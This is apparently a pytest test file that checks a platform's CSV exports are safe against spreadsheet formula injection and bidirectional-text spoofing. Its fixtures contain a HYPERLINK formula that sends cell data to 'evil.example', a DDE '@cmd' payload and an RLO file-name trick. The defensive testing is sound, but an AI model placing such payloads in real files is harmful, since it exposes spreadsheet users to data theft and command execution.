"""Every CSV the platform writes is safe to open in a spreadsheet: formulas and
bidirectional controls are neutralised in text cells; numbers stay numbers;
JSONL keeps the raw text."""
import csv
import io
import json

import pytest

from core.spreadsheet import safe_csv_writer, safe_dict_writer, spreadsheet_safe

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
BIDI = "safe\u202egnp.exe\u2066x\u2069\u200e\u200f"


@pytest.mark.parametrize("text, expected", [
    ("=1+2", "'=1+2"),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("a = b", "a = b"),
    ("plain text", "plain text"),
    ("", ""),
    (BIDI, "safegnp.exex"),
    ("\u202e=1", "'=1"),  # a bidi control cannot hide a formula from the check
])
def test_text_cells_are_neutralised(text, expected):
    assert spreadsheet_safe(text) == expected


def test_numbers_are_left_as_numbers():
    assert spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe(-3) == -3 and spreadsheet_safe(True) is True
    assert spreadsheet_safe(None) is None
    buffer = io.StringIO()
    safe_csv_writer(buffer).writerow([-0.5, -3, "-0.5"])
    assert buffer.getvalue().strip() == "-0.5,-3,'-0.5"


def test_dict_writer_neutralises_header_and_cells():
    buffer = io.StringIO()
    writer = safe_dict_writer(buffer, ["=name", "value"], lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"=name": "@x", "value": -1}])
    assert buffer.getvalue() == "'=name,value\n'@x,-1\n"


@pytest.fixture
def vocabulary(db, settings, tmp_path):
    from core.services import helplines_seed, vocabulary_seed

    vocabulary_seed()
    helplines_seed()
    settings.ARTIFACT_ROOT = tmp_path / "artifacts"


def test_survey_export_neutralises_participant_free_text(vocabulary):
    from survey import services
    from tests.survey.factories import background_data, complete_participant, study_with_responses

    study = study_with_responses()
    data = background_data(gender="self_describe")
    data["background.gender"]["text"] = FORMULA
    complete_participant(study, background=data, feedback="@cmd|' /C calc'!A0 " + BIDI)
    version = services.survey_answers_export(study=study, include_free_text=True)
    content = open(version.files[0]["path"], encoding="utf-8").read()
    row = next(csv.DictReader(io.StringIO(content)))
    assert row["background.gender.text"] == "'" + FORMULA
    assert row["closing.feedback.text"].startswith("'@cmd") and "\u202e" not in content and "\u2066" not in content
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())

    # JSONL keeps what people wrote.
    responses = services.response_rankings_export(study=study)
    assert responses.files[0]["path"].endswith(".jsonl")


def test_judgments_export_neutralises_clinician_comments(db):
    from annotation import services
    from annotation.models import Assignment
    from tests.annotation.factories import make_study, screen_answers
    from tests.factories import ResearcherFactory

    study = make_study(n_items=1, n_clinicians=1, overlap=1, keys=("empathy",))
    assignment = Assignment.objects.get(study=study)
    services.judgment_submit(assignment=assignment, clinician=assignment.clinician, choices=screen_answers(study),
                             comment=FORMULA + BIDI)
    text = services.judgments_export(study=study, actor=ResearcherFactory())
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(r["comment"] == "'" + FORMULA + "safegnp.exex" for r in rows)
    assert "\u202e" not in text

    # The preference-pairs JSONL keeps the raw response texts.
    for line in services.preference_pairs_export(study=study, actor=ResearcherFactory()).splitlines():
        json.loads(line)


def test_no_csv_is_written_past_the_safe_writer():
    """Every CSV goes through core.spreadsheet: no other module builds a csv writer."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    sources = [path for package in ("core", "survey", "annotation", "training", "config") for path in (root / package).rglob("*.py")]
    assert len(sources) > 20
    for path in sources:
        relative = path.relative_to(root).as_posix()
        if relative == "core/spreadsheet.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8", errors="replace")):
            offenders.append(relative)
    assert offenders == []
